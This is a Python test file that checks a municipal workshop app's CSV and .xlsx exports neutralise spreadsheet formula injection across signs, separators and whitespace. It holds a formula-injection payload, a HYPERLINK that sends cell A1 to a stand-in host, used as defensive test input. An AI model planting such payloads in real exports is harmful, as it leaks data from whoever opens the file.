"""Spreadsheet exports a municipality can open safely: no cell of the CSV can start a formula
however a spreadsheet splits it, and the .xlsx holds every text exactly, as text."""

from __future__ import annotations

import csv
import io
import re
from itertools import product

import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st

from server.domain import (
    Accepted,
    Actor,
    Event,
    Limits,
    Role,
    State,
    apply_event,
    decide,
    initial_state,
    join,
)
from server.domain.commands import ClusterCreate, NoteCreate, NoteGroup, PhaseSet, VoteCast, VotesReveal
from server.domain.results import compute
from server.exports import table, to_csv, to_xlsx
from server.i18n import Translations
from server.spreadsheet import neutralise
from tests.support.fuzz import scaled

SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b"]
SEPARATORS = [";", ",", "\t", "\r", "\n", "\r\n"]
WHITESPACE = ["", " ", "  ", "\u3000", "\u00a0", "\t"]
PAYLOAD = 'HYPERLINK("http://x.example/?"&A1;"klikk")'
# How a spreadsheet might split a cell's text into cells: Nordic Excel on ';', others on ',',
# a paste on tabs and line breaks. Every piece must not read as a formula.
SPLIT = re.compile(r"[;,\t\r\n]")
FORMULA_START = re.compile(r"^\s*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]")
LIMITS = Limits(clusters_per_room=1000, participants_per_room=2000)  # room for every dangerous text
FAC = Actor("p_fac", Role.FACILITATOR)


def dangerous_texts() -> list[str]:
    """Every sign after every leading whitespace, at the start and after every separator."""
    texts = [f"{space}{sign}{PAYLOAD}" for sign, space in product(SIGNS, WHITESPACE)]
    texts += [f"ok{sep}{space}{sign}1+1{sep}" for sign, sep, space in product(SIGNS, SEPARATORS, WHITESPACE)]
    return texts + ["\tstarts with a tab", "\rstarts with a return"]


def is_safe(cell: str) -> bool:
    return not any(FORMULA_START.match(piece) for piece in SPLIT.split(cell))


def test_every_formula_sign_in_every_position_is_neutralised() -> None:
    """= + - @ and their full-width forms, after leading spaces, at the start and after ';', ',',
    tab and line breaks: none of them can start a formula, and nothing but apostrophes is added."""
    for text in dangerous_texts():
        safe = neutralise(text)
        assert is_safe(safe) and safe[:1] not in ("\t", "\r"), repr(safe)
        assert safe.replace("'", "") == text.replace("'", ""), repr(safe)


@given(st.lists(st.sampled_from([*SIGNS, *SEPARATORS, *WHITESPACE, "a", "1", "'", '"']), max_size=30).map("".join))
@settings(max_examples=scaled(300))
def test_no_text_escapes_neutralising(text: str) -> None:
    """Whatever mix of signs, separators and spaces a note holds, no piece of it reads as a formula."""
    assert is_safe(neutralise(text))


def test_ordinary_text_is_left_alone() -> None:
    """Words, numbers inside a sentence and hyphens between words stay as written."""
    for text in ("Kortere kø", "Åpent 8-16", "e-post", "Helse og omsorg", "50% raskere", "a=b"):
        assert neutralise(text) == text


def voted_board(texts: list[str]) -> State:
    """A revealed round where every note, group title and department name is a dangerous text
    (each department with three voters, so it is named in the export)."""
    state = initial_state(Event(1, "room.create", "system", 0,
                                {"code": "ABCDEF", "title": "T", "language": "nb", "template": "blank"}))

    def do(actor: Actor, command: object) -> None:
        decision = decide(state, actor, command, 1000 * state.seq, LIMITS)  # type: ignore[arg-type]
        assert isinstance(decision, Accepted), decision
        apply_event(state, Event(state.seq + 1, decision.op, actor.id, 0, decision.data))

    def enter(pid: str, name: str, department: str, role: Role) -> None:
        decision = join(state, pid, name, department, role, LIMITS)
        assert isinstance(decision, Accepted), decision
        apply_event(state, Event(state.seq + 1, decision.op, pid, 0, decision.data))

    enter(FAC.id, "Fasilitator", "", Role.FACILITATOR)
    do(FAC, PhaseSet("write"))
    for i, text in enumerate(texts):
        do(FAC, NoteCreate(f"n{i}", text[:500], "yellow", 10, 10))
        do(FAC, ClusterCreate(f"c{i}", text[:80], 10, 10))
        do(FAC, NoteGroup(f"n{i}", f"c{i}"))
    do(FAC, PhaseSet("vote"))
    for i, text in enumerate(texts):
        for j in range(3):
            voter = Actor(f"p_{i}_{j}", Role.PARTICIPANT)
            enter(voter.id, f"{text[:30]}{j}", text[:60], Role.PARTICIPANT)
            do(voter, VoteCast(f"n{i}"))
    do(FAC, VotesReveal())
    return state


def test_csv_and_xlsx_of_dangerous_notes_titles_and_departments() -> None:
    """Notes, group titles and department names that start formulas everywhere: in the CSV
    (';', BOM, read as Nordic Excel and as ',' Excel would) no cell can start one; in the .xlsx
    every text is a text cell holding exactly what was written, and no cell is a formula."""
    texts = dangerous_texts()
    result = compute(voted_board(texts))
    t = Translations().get("nb")
    rows = table(result, t)
    assert {row[6] for row in rows[1:]} >= {1}, "departments are named, so their cells are exported"

    data = to_csv(result, t)
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8").lstrip("\ufeff")
    for delimiter in (";", ","):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            assert all(is_safe(cell) for cell in row), row
    naive = [piece.strip().lstrip('"') for piece in SPLIT.split(text)]  # a parser that ignores quotes
    assert not [piece for piece in naive if FORMULA_START.match(piece)]
    parsed = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert parsed[0] == ["Type", "Plass", "Prikker", "Tekst", "Gruppe", "Område", "Deltakergrupper", "Støttet av",
                         "Andre enn forfatterens", "Dato"]
    assert len(parsed) == len(rows)

    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(result, t)))
    sheet = book.active
    assert sheet.title == "Resultater"
    cells = [[c for c in row] for row in sheet.iter_rows()]

    def value(cell: object) -> object:  # XML cannot hold a bare CR: the file spells it _x000D_, Excel reads it back
        v = cell.value  # type: ignore[attr-defined]
        return "" if v is None else v.replace("_x000D_", "\r") if isinstance(v, str) else v

    assert [[value(c) for c in row] for row in cells] == rows
    written = {value(c) for row in cells for c in row if c.data_type == "s"}
    assert set(texts) <= written
    assert not any(c.data_type == "f" for row in cells for c in row)
